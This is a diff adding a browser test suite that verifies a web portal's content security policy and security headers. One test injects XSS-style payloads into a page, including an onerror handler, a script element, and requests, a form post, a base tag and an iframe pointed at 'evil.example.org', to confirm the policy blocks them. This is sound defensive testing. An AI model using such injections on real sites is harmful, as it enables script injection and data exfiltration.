@@ -1,0 +1,156 @@
+import { readdirSync } from 'node:fs';
+import path from 'node:path';
+import { eq } from 'drizzle-orm';
+import type { HTTPResponse, Page } from 'puppeteer-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { drafts } from '@/db/schema/subscriber';
+import { ROLES, type Role } from '@/lib/domain/permissions';
+import { ROOT } from '../../scripts/lib/paths.mjs';
+import { signIn } from '../fixtures/actors-staff';
+import { ApiCustomer } from '../fixtures/api';
+import { DESKTOP, openPerson } from '../fixtures/browser';
+import { takePolicyViolations } from '../fixtures/policy';
+import { until } from '../fixtures/sandbox-client';
+import { openStage, type Stage } from '../fixtures/stage';
+import { makeCustomer, makeStaff } from '../fixtures/world';
+
+/** Addresses of every page of the portal, found in the source: a new page is tested without a new line here. */
+function portalPages(dir = 'app/(portal)'): string[] {
+  return readdirSync(path.join(ROOT, dir), { withFileTypes: true }).flatMap((entry) => {
+    if (entry.isDirectory()) return entry.name.startsWith('_') ? [] : portalPages(`${dir}/${entry.name}`);
+    return entry.name === 'page.tsx' ? [dir.replace('app/(portal)', '') || '/'] : [];
+  });
+}
+
+/** The back office has a router of its own: see app/_admin/admin-app.tsx. */
+const ADMIN_PAGES = [
+  '',
+  '/login',
+  '/review',
+  '/review/[orderNo]',
+  '/stations',
+  '/shipments',
+  '/orders',
+  '/orders/[orderNo]/show',
+];
+
+let stage: Stage;
+let values: Record<string, string>;
+let customer: Page;
+let staff: Page;
+
+beforeAll(async () => {
+  stage = await openStage();
+  const { world } = stage;
+  const who = await makeCustomer(world);
+  const api = await ApiCustomer.signIn(world, who);
+  const { orderNo, outTradeNo } = await api.orderToPay('legal_mobile', await stage.papers(who));
+  const [draft] = await world.db.select({ id: drafts.id }).from(drafts).where(eq(drafts.orderNo, orderNo));
+  values = { channel: '3394', orderNo, draftId: draft?.id ?? '' };
+  customer = (await stage.customer(who, api)).page;
+  // The pay page is seen with its QR code, then paid, so that the order can be reviewed.
+  await visit(customer, '/c/[channel]/orders/[orderNo]/pay');
+  await api.pay(outTradeNo);
+  await api.untilState(orderNo, 'paid');
+  staff = await openPerson(stage.browser, DESKTOP);
+  await signIn(staff, world.system.webUrl, await makeStaff(world, Object.keys(ROLES) as Role[]));
+});
+afterAll(() => stage?.close());
+
+async function visit(page: Page, pattern: string): Promise<HTTPResponse> {
+  const address = pattern.replace(/\[(\w+)\]/g, (_, name: string) => values[name] ?? '');
+  const response = await page.goto(`${stage.world.system.webUrl}${address}`, { waitUntil: 'load' });
+  await page.waitForNetworkIdle({ idleTime: 300, concurrency: 1 });
+  return response as HTTPResponse;
+}
+
+const nonceOf = (response: HTTPResponse): string =>
+  /script-src 'self' 'nonce-([\w+/=]+)' 'strict-dynamic';/.exec(
+    response.headers()['content-security-policy'] ?? '',
+  )?.[1] ?? '';
+
+describe('the content security policy', () => {
+  it.each([...portalPages(), '/nowhere'])('lets %s work and refuses nothing', async (pattern) => {
+    const response = await visit(customer, pattern);
+    expect(nonceOf(response)).not.toBe('');
+    expect(response.status()).toBe(pattern === '/nowhere' ? 404 : 200);
+    // The page runs: its scripts were not what was refused.
+    expect(
+      await customer.evaluate(() =>
+        Object.keys(document.body.firstElementChild ?? {}).some((key) => key.startsWith('__react')),
+      ),
+    ).toBe(true);
+    expect(takePolicyViolations()).toEqual([]);
+  });
+
+  it.each(ADMIN_PAGES)('lets /admin%s work and refuses nothing', async (pattern) => {
+    const response = await visit(staff, `/admin${pattern}`);
+    expect(nonceOf(response)).not.toBe('');
+    await staff.waitForSelector('.RaLayout-content, #staff-login, main');
+    // Styles came through: with a wrong nonce the page would be bare.
+    expect(
+      await staff.evaluate(() => [...document.styleSheets].some((sheet) => sheet.ownerNode?.nodeName === 'STYLE')),
+    ).toBe(true);
+    expect(takePolicyViolations()).toEqual([]);
+  });
+
+  it('is another one for every answer', async () => {
+    const seen = new Set([
+      nonceOf(await visit(customer, '/')),
+      nonceOf(await visit(customer, '/')),
+      nonceOf(await visit(customer, '/nowhere')),
+    ]);
+    expect(seen.size).toBe(3);
+  });
+
+  it('refuses what a hole in our pages would bring, and the test hears of it', async () => {
+    const ways: Record<string, () => void> = {
+      'script-src-attr': () =>
+        document.body.insertAdjacentHTML('beforeend', '<img alt="" src="data:," onerror="globalThis.stolen = 1">'),
+      'script-src-elem': () =>
+        document.body.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.stolen = 1' })),
+      'style-src-elem': () =>
+        document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' })),
+      'img-src': () => document.body.append(Object.assign(new Image(), { src: 'https://evil.example.org/?stolen' })),
+      'connect-src': () => void fetch('https://evil.example.org/').catch(() => {}),
+      'base-uri': () =>
+        document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example.org/' })),
+      'form-action': () => {
+        const form = Object.assign(document.createElement('form'), {
+          action: 'https://evil.example.org/',
+          method: 'post',
+        });
+        document.body.append(form);
+        form.submit();
+      },
+      'frame-src': () =>
+        document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example.org/' })),
+    };
+    await visit(customer, '/c/[channel]');
+    for (const act of Object.values(ways)) await customer.evaluate(act);
+    const refused = new Set<string>();
+    await until('every refusal', async () => {
+      for (const text of takePolicyViolations()) refused.add(text.split(' ')[0] ?? '');
+      return refused.size >= Object.keys(ways).length;
+    });
+    expect([...refused].sort()).toEqual(Object.keys(ways).sort());
+    expect(await customer.evaluate(() => 'stolen' in globalThis)).toBe(false);
+  });
+});
+
+describe('every answer', () => {
+  it.each(['/', '/admin', '/api/health/live', '/api/trpc/channel.get', '/pki/crl/issuing.crl', '/nowhere'])(
+    'of %s carries the headers',
+    async (address) => {
+      const { headers } = await fetch(`${stage.world.system.webUrl}${address}`);
+      expect(headers.get('x-content-type-options')).toBe('nosniff');
+      expect(headers.get('x-frame-options')).toBe('DENY');
+      expect(headers.get('referrer-policy')).toBe('same-origin');
+      expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
+      expect(headers.get('permissions-policy')).toContain('camera=(self), microphone=()');
+      expect(headers.get('x-powered-by')).toBeNull();
+      // This system is on http: the promise to be reached by https only would lock people out.
+      expect(headers.get('strict-transport-security')).toBeNull();
+    },
+  );
+});
